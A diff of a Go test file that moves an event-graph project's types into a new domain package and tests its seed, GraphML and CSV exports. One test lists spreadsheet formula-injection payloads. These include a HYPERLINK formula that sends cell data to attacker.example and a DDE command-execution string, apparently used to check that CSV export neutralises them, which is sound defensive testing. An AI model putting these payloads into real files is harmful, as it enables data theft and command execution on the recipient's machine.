@@ -20,6 +20,7 @@ import (
 	"eventgraph/seed"
 	"eventgraph/seed/export"
 	"eventgraph/store"
+	"eventgraph/store/domain"
 	"eventgraph/store/storetest"
 )
 
@@ -31,19 +32,19 @@ func seeded(t *testing.T) *store.Graph {
 	ctx := context.Background()
 	june := time.Date(2025, 6, 20, 0, 0, 0, 0, time.UTC)
 	text := "Oman lies on the Arabian Peninsula. Oman lies on the Arabian Peninsula, officials repeated."
-	rel := store.Relation{Type: store.RelLocatedIn, From: "oman", To: "arabian-peninsula"}
-	rel.ID = store.RelationID(rel.Type, rel.From, rel.To, rel.Role)
+	rel := domain.Relation{Type: domain.RelLocatedIn, From: "oman", To: "arabian-peninsula"}
+	rel.ID = domain.RelationID(rel.Type, rel.From, rel.To, rel.Role)
 	_, err := g.Apply(ctx, &store.Batch{
-		Nodes: []store.Node{
-			&store.Actor{EntityBase: store.EntityBase{ID: "wire", Name: "Wire Service"}, Kind: store.ActorMedia, Reliability: store.ReliabilityB},
-			&store.Source{ID: "wire-report", Title: "Profile", Publisher: "wire", PublishedAt: &june, Text: text, Language: "en"},
-			&store.Source{ID: "reprint", Title: "Profile (reprint)", Text: text, CopyOf: "wire-report", Language: "en"},
+		Nodes: []domain.Node{
+			&domain.Actor{EntityBase: domain.EntityBase{ID: "wire", Name: "Wire Service"}, Kind: domain.ActorMedia, Reliability: domain.ReliabilityB},
+			&domain.Source{ID: "wire-report", Title: "Profile", Publisher: "wire", PublishedAt: &june, Text: text, Language: "en"},
+			&domain.Source{ID: "reprint", Title: "Profile (reprint)", Text: text, CopyOf: "wire-report", Language: "en"},
 		},
-		Relations: []store.Relation{rel},
-		Evidence: []store.Evidence{
+		Relations: []domain.Relation{rel},
+		Evidence: []domain.Evidence{
 			{Subject: rel.ID, Source: "wire-report", Quote: "Oman lies on the Arabian Peninsula", Occurrence: 2, Confidence: 0.8, Method: "test", Credibility: 2},
 			{Subject: rel.ID, Source: "reprint", Quote: "Oman lies on the Arabian Peninsula", Occurrence: 1, Confidence: 0.7, Method: "test",
-				Stance: store.EvidenceDisputes, AttributedTo: "wire", Note: "a test dispute"},
+				Stance: domain.EvidenceDisputes, AttributedTo: "wire", Note: "a test dispute"},
 		},
 	})
 	if err != nil {
@@ -63,9 +64,9 @@ func dump(t *testing.T, g *store.Graph) string {
 		return err
 	}
 	err := g.Visit(context.Background(), store.Visitor{
-		Node:     func(n store.Node) error { return add(n) },
-		Position: func(p *store.Position, evs []*store.Evidence) error { return add([]any{p, evs}) },
-		Relation: func(r *store.Relation, evs []*store.Evidence) error { return add([]any{r, evs}) },
+		Node:     func(n domain.Node) error { return add(n) },
+		Position: func(p *domain.Position, evs []*domain.Evidence) error { return add([]any{p, evs}) },
+		Relation: func(r *domain.Relation, evs []*domain.Evidence) error { return add([]any{r, evs}) },
 	})
 	if err != nil {
 		t.Fatal(err)
@@ -98,7 +99,7 @@ func TestSeedRoundTrip(t *testing.T) {
 		t.Fatalf("export then import gives another graph:\n%s\nwant\n%s", got, want)
 	}
 	t.Run("subgraph stands on its own", func(t *testing.T) {
-		sub, err := g.Neighbourhood(context.Background(), "oman", 1, store.Walk{}, 1000)
+		sub, err := g.Neighbourhood(context.Background(), "oman", 1, domain.Walk{}, 1000)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -179,14 +180,14 @@ func TestGraphML(t *testing.T) {
 	}
 	var entities, edges int
 	g.Visit(context.Background(), store.Visitor{
-		Node: func(n store.Node) error {
+		Node: func(n domain.Node) error {
 			if n.NodeKind().IsEntity() {
 				entities++
 			}
 			return nil
 		},
-		Position: func(*store.Position, []*store.Evidence) error { edges++; return nil },
-		Relation: func(*store.Relation, []*store.Evidence) error { edges++; return nil },
+		Position: func(*domain.Position, []*domain.Evidence) error { edges++; return nil },
+		Relation: func(*domain.Relation, []*domain.Evidence) error { edges++; return nil },
 	})
 	if doc.Graph.EdgeDefault != "directed" || len(doc.Graph.Nodes) != entities || len(doc.Graph.Edges) != edges || !counted {
 		t.Fatalf("graphml: %d nodes, %d edges, evidence counted %v; want %d entities, %d relations and positions",
@@ -246,12 +247,12 @@ func TestCSV(t *testing.T) {
 	rows := mustReadCSV(t, write(t, g, export.CSV, nil))
 	var nodes, relations, evidence int
 	g.Visit(context.Background(), store.Visitor{
-		Node: func(store.Node) error { nodes++; return nil },
-		Position: func(_ *store.Position, evs []*store.Evidence) error {
+		Node: func(domain.Node) error { nodes++; return nil },
+		Position: func(_ *domain.Position, evs []*domain.Evidence) error {
 			evidence += len(evs)
 			return nil
 		},
-		Relation: func(_ *store.Relation, evs []*store.Evidence) error {
+		Relation: func(_ *domain.Relation, evs []*domain.Evidence) error {
 			relations++
 			evidence += len(evs)
 			return nil
@@ -272,16 +273,16 @@ func TestCSVFormulaCells(t *testing.T) {
 	ctx := context.Background()
 	hostile := []string{`=HYPERLINK("http://attacker.example/?"&A1,"open")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3", "\t=1+1", "\r=1+1"}
 	text := "Reported: " + strings.Join(hostile, " / ")
-	rel := store.Relation{Type: store.RelAlliedWith, From: "a", To: "b"}
-	rel.ID = store.RelationID(rel.Type, rel.From, rel.To, rel.Role)
+	rel := domain.Relation{Type: domain.RelAlliedWith, From: "a", To: "b"}
+	rel.ID = domain.RelationID(rel.Type, rel.From, rel.To, rel.Role)
 	_, err := g.Apply(ctx, &store.Batch{
-		Nodes: []store.Node{
-			&store.Actor{EntityBase: store.EntityBase{ID: "a", Name: hostile[0], Aliases: hostile[1:2], Description: hostile[3]}, Kind: store.ActorState},
-			&store.Actor{EntityBase: store.EntityBase{ID: "b", Name: "Plain Name", Description: hostile[2]}, Kind: store.ActorState},
-			&store.Source{ID: "s", Title: hostile[4], URL: "https://example.org/s", Text: text, Language: "en"},
+		Nodes: []domain.Node{
+			&domain.Actor{EntityBase: domain.EntityBase{ID: "a", Name: hostile[0], Aliases: hostile[1:2], Description: hostile[3]}, Kind: domain.ActorState},
+			&domain.Actor{EntityBase: domain.EntityBase{ID: "b", Name: "Plain Name", Description: hostile[2]}, Kind: domain.ActorState},
+			&domain.Source{ID: "s", Title: hostile[4], URL: "https://example.org/s", Text: text, Language: "en"},
 		},
-		Relations: []store.Relation{rel},
-		Evidence:  []store.Evidence{{Subject: rel.ID, Source: "s", Quote: hostile[0], Confidence: 0.5, Method: hostile[5], Note: hostile[1]}},
+		Relations: []domain.Relation{rel},
+		Evidence:  []domain.Evidence{{Subject: rel.ID, Source: "s", Quote: hostile[0], Confidence: 0.5, Method: hostile[5], Note: hostile[1]}},
 	})
 	if err != nil {
 		t.Fatal(err)
